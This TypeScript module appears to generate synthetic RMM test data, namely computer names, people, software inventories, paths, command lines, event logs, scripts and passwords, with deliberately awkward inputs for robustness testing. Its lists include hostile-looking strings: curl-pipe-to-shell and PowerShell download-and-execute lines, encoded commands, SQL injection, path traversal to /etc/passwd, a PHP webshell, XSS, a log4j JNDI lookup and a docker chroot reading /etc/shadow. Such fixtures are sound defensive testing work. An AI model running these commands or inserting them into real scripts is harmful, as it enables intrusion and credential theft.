// What RMM traffic speaks of: machines, people, software, paths, command lines, events and scripts, oddities on purpose.
import type { Random } from './random.ts'

/** Names of computers. */
export const COMPUTERS = [
  'DESKTOP-4F7K2QX',
  'O-BRIENS-PC',
  'SRV-DC01',
  'srv-sql-01.corp.example.local',
  'Müllers-Laptop',
  'FRONT DESK 2',
  'XRAY-1',
  'union-hall-pc',
  'SELECT-PC',
  'k8s-node-3',
  'MAC-O’NEIL',
  'WIN-EXEC01',
  'DROP-OFF-KIOSK',
  'ip-10-0-3-17',
] as const

/** Names of people and customers, with what names have in them. */
export const PEOPLE = [
  "Sean O'Brien",
  'Anna-Lena Müller',
  'D’Angelo & Sons',
  'Smith (Accounting)',
  'Null, Robert',
  'Jean-Luc "JL" Picard',
  "Conan O'Neill or Mary",
  '李 小龙',
  'Drop, Peter',
  'Union Bank & Trust; Springfield',
  "St. Mary's and St. John's",
  'Select Dental #2',
  'Bobby <Bob> Tables',
  'user+alias@corp.example',
  "N'Golo 1=1 Kante",
] as const

/** Installed software as inventories list it. */
export const SOFTWARE = [
  'Microsoft Visual C++ 2015-2022 Redistributable (x64) - 14.38.33130',
  'Microsoft SQL Server 2019 (64-bit)',
  'SQL Server Management Studio - 19.2',
  'Notepad++ (64-bit x64)',
  "Bob's Burgers POS; v2 -- beta",
  'Node.js',
  'PHP 8.2.1 <dev>',
  'Java(TM) SE Runtime Environment (build 1.8.0_381-b09)',
  'Oracle VM VirtualBox 7.0.10',
  'Wireshark 4.2.0 x64 (with Npcap & Nmap)',
  'Python 3.11.4 Core Interpreter (64-bit)',
  'Update for Windows (KB5034441) | Security',
  'PostgreSQL 15 "select edition"',
  'Adobe Acrobat (64-bit) %LANG%',
  'Windows Driver Package - Intel (iaStorAC) SCSIAdapter  (11/21/2018 16.8.3.1003)',
  '../Portable Apps/7-Zip',
  'WinRAR 6.24 (64-bit) & Tools',
  'Zoom(64bit) ${version}',
  'WordPress Desktop wp-admin 1.0',
] as const

/** Paths of Windows, macOS and Linux, and of the registry. */
export const PATHS = [
  String.raw`C:\Windows\LTSvc\LTErrors.txt`,
  String.raw`C:\Program Files (x86)\LabTech Client\LTClient.exe`,
  String.raw`C:\Windows\System32\drivers\etc\hosts`,
  String.raw`C:\Windows\system32\config\systemprofile\AppData`,
  String.raw`C:\Windows\win.ini`,
  String.raw`C:\inetpub\wwwroot\web.config`,
  String.raw`\\srv-dc01\share$\Install\setup.exe`,
  String.raw`C:\Users\o'brien\AppData\Local\Temp\~DF3A.tmp`,
  String.raw`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{90160000-008C-0000-1000-0000000FF1CE}`,
  String.raw`HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\LTService`,
  '/etc/ssh/sshd_config',
  '/etc/passwd',
  '/proc/self/status',
  '/var/log/auth.log',
  '/Applications/Microsoft Teams.app/Contents/MacOS/Teams',
  '/opt/tacticalagent/../tacticalagent/agent.log',
  String.raw`..\..\Shared\Deploy\agent.msi`,
  '/home/web/.ssh/authorized_keys',
  String.raw`D:\Backups\2026..2027\full.bak`,
] as const

/** Command lines of processes and services, as inventories and audit events carry them. */
export const COMMAND_LINES = [
  String.raw`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`,
  String.raw`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
  String.raw`C:\Windows\system32\cmd.exe /c "dir C:\ & whoami /all > C:\temp\who.txt"`,
  'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  String.raw`"C:\Program Files\Java\bin\java.exe" -Xmx2G -jar "C:\App\server.jar" --spring.config=file:///C:/App/app.yml`,
  '/usr/bin/python3 -c "import os; os.system(\'id\')"',
  '/bin/sh -c "curl -fsSL https://get.example.com/install.sh | sh"',
  String.raw`rundll32.exe shell32.dll,Control_RunDLL C:\x.cpl`,
  String.raw`wscript.exe //B //Nologo C:\Windows\LTSvc\scripts\clean.vbs`,
  '/usr/sbin/sshd -D -o AuthorizedKeysCommand=/usr/bin/eic_run_authorized_keys %u %f',
  'certutil -urlcache -split -f https://files.example.com/agent.msi agent.msi',
  'sqlservr.exe -sMSSQLSERVER; -dC:\\data\\master.mdf',
] as const

/** Messages of event logs, web server logs and database logs that agents report word by word. */
export const EVENT_MESSAGES = [
  "Incorrect syntax near 'x'. Unclosed quotation mark after the character string ''.",
  "Login failed for user 'sa'. Reason: Password did not match. [CLIENT: 10.0.0.4]",
  "You have an error in your SQL syntax; check the manual near '' OR '1'='1' at line 1",
  'ORA-00933: SQL command not properly ended; SELECT name FROM users WHERE id = 1 UNION SELECT 2',
  'The process C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc SQBFAFgA was blocked.',
  'GET /../../etc/passwd HTTP/1.1" 404 - "sqlmap/1.7" from 198.51.100.23',
  "Microsoft Defender: Trojan:PHP/Webshell <?php eval($_POST['x']); ?> quarantined",
  'Unhandled exception: System.Web.HttpRequestValidationException: A potentially dangerous Request.Form value (q="<script>alert(1)</script>")',
  'The Windows Filtering Platform blocked a packet to 169.254.169.254:80',
  'dhclient: bound to 10.0.0.5 -- renewal in 1324 seconds.',
  'java.lang.IllegalArgumentException: ${jndi:ldap://198.51.100.9/a} is no valid name',
  'Task Scheduler launched "{4F2A-11}" ; action "C:\\Windows\\SYSTEM32\\cmd.exe"',
  'Service "Bob\'s Updater" terminated unexpectedly; it has done this 1 time(s).',
  'kernel: Out of memory: Killed process 4711 (node) total-vm:1234kB && restarting',
  '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID>4688</EventID></System></Event>',
  'Rule "block (id=1) or (1=1)" was changed; see file:///C:/logs/fw.txt',
] as const

/** Scripts that technicians send to be run. */
export const SCRIPTS = [
  'Get-Service | Where-Object { $_.Status -eq "Stopped" } | Start-Service',
  "$c = New-Object System.Net.WebClient; IEX $c.DownloadString('https://files.example.com/fix.ps1')",
  'powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgAIABHAGUAdAAtAFAAcgBvAGMAZQBzAHMA',
  '@echo off\r\nnet stop spooler && del /q C:\\Windows\\System32\\spool\\PRINTERS\\*.* & net start spooler',
  '#!/bin/bash\nset -e\ncurl -fsSL https://get.example.com/agent.sh | sudo sh\nrm -rf /tmp/x; id; cat /etc/passwd | wc -l',
  "wget -qO- http://169.254.169.254/latest/meta-data/instance-id || echo 'no cloud'",
  'whoami; hostname; ipconfig /all',
  'reg add "HKLM\\SOFTWARE\\Policies" /v X /t REG_DWORD /d 1 /f',
  'SELECT * FROM computers WHERE name LIKE \'%srv%\' AND os <> "Linux" ORDER BY lastcontact -- newest first',
  "UPDATE computers SET comment='moved' WHERE id IN (SELECT id FROM moves); DROP TABLE moves;",
  "import os, pickle\nprint(os.popen('uname -a').read())\n",
  'for /f "tokens=2 delims==" %%a in (\'wmic os get caption /value\') do echo %%a',
  'Invoke-WebRequest http://localhost:8080/health -UseBasicParsing | Select-Object StatusCode',
  '${env:ProgramFiles}\\App\\app.exe /S; $(Get-Date) ; `"quoted`"',
  "Write-Host '<script>not html</script>'; [xml]$x = Get-Content ..\\..\\web.config",
  'echo {{agent.hostname}} {{client.name}} #{name} ${HOME:-/root} %COMPUTERNAME% @contactname@',
  'docker run --rm -v /:/host alpine chroot /host sh -c "ls -la /etc/shadow"',
  "IF 1=1 WAITFOR DELAY '0:0:5'; -- pause",
  'ls;pwd',
  'ping -n 4 8.8.8.8 | find "TTL" && exit 0',
] as const

/** Notes and tickets as people write them, and as mail programs format them. */
export const NOTES = [
  "Union meeting: please select all attendees, don't update Bob's PC; exec team or and others join at 9",
  'User says: "it doesn\'t work" -- see ticket #4711; 1=1 they said :)',
  '<p>Hello,<br>please see <a href="https://www.example.com/?a=1&amp;b=2">this</a>.</p><img src="cid:logo" alt="Logo">',
  'Steps: 1) open cmd.exe /c 2) run ipconfig | more 3) profit; select * from nothing',
  "From the log: ' or '1'='1 was typed into the login form by a scanner. Please check",
  "Path is ../../shared or C:\\Windows\\win.ini, I forget which -- ask Sean O'Brien",
  'a < b && c > d; x = (y || z) -- math homework',
  'Mail body: <div style="font:12px Arial" onclick="return false"><b>Sale</b></div><script>var a=1</script>',
  '50% off! 100%25 of users; %s %d {0} ${name} {{ticket.id}}',
  'Ünïcödé ✓ – “quotes” … and 日本語',
  'restart; then wait | see whether it comes back & call me',
  'SSRF test planned on http://127.0.0.1/ and http://localhost:3000, do not worry',
] as const

/** Passwords, which may hold anything. */
export const PASSWORDS = [
  "P@ss'or'd=1",
  'Tr0ub4dor&3;--',
  '${correct}horse`battery`',
  '<b@d>"pass"\\word',
  'a|b&c;d e',
  "x' OR y=z",
  'päß–wörd',
  '%41%42+c',
  '{"$ne":1}',
  '(1=1)/**/',
  'correct horse battery staple',
] as const

/** User agents of browsers, agents and integrations. */
export const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727; InfoPath.3)',
] as const

/** User agents of integrations; scripting tools among them, because integrations are written with them. */
export const CLIENTS = [
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'curl/8.5.0',
  'PostmanRuntime/7.37.0',
  'RestSharp/110.2.0.0',
  'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4648',
  'Apache-HttpClient/4.5.14 (Java/17.0.9)',
  'okhttp/4.12.0',
  'axios/1.7.2',
  'Wget/1.21.4',
  'Microsoft BITS/7.8',
] as const

/** An address of a customer's network. */
export function address(random: Random): string {
  return `${random.pick(['10.0', '192.168', '172.16', '169.254', '127.0'])}.${random.int(0, 255)}.${random.int(1, 254)}`
}

/** A time as servers write it. */
export function time(random: Random): string {
  const two = (value: number): string => String(value).padStart(2, '0')
  return `2026-${two(random.int(1, 12))}-${two(random.int(1, 28))}T${two(random.int(0, 23))}:${two(random.int(0, 59))}:${two(random.int(0, 59))}Z`
}

// A ticket may quote a log, but one that quotes a working log4j lookup is not sent past a gate that stops those.
const PROSE = [...NOTES, ...EVENT_MESSAGES.filter(text => !text.includes('${jndi'))]

/** Text of some length as people and logs have it. */
export function prose(random: Random): string {
  return random.list(1, 4, () => random.pick(PROSE)).join(random.pick(['\n', ' ', '\r\n\r\n']))
}

/** A software inventory. */
export function inventory(random: Random): object {
  return {
    computer: random.pick(COMPUTERS),
    user: random.pick(PEOPLE),
    software: random.list(3, 25, () => ({
      name: random.pick(SOFTWARE),
      version: `${random.int(1, 20)}.${random.int(0, 99)}.${random.int(0, 9999)}`,
      location: random.pick(PATHS),
      uninstall: random.pick(COMMAND_LINES),
    })),
    services: random.list(2, 10, () => ({
      name: `"${random.pick(SOFTWARE)}"`,
      path: random.pick(COMMAND_LINES),
    })),
    processes: random.list(2, 12, () => ({
      pid: random.int(1, 65_000),
      cmdline: random.pick(COMMAND_LINES),
    })),
    registry: random.list(0, 6, () => ({ key: random.pick(PATHS), value: random.pick(SOFTWARE) })),
    routes: random.list(0, 4, () => ({ to: `${address(random)}/32`, via: '127.0.0.1' })),
  }
}
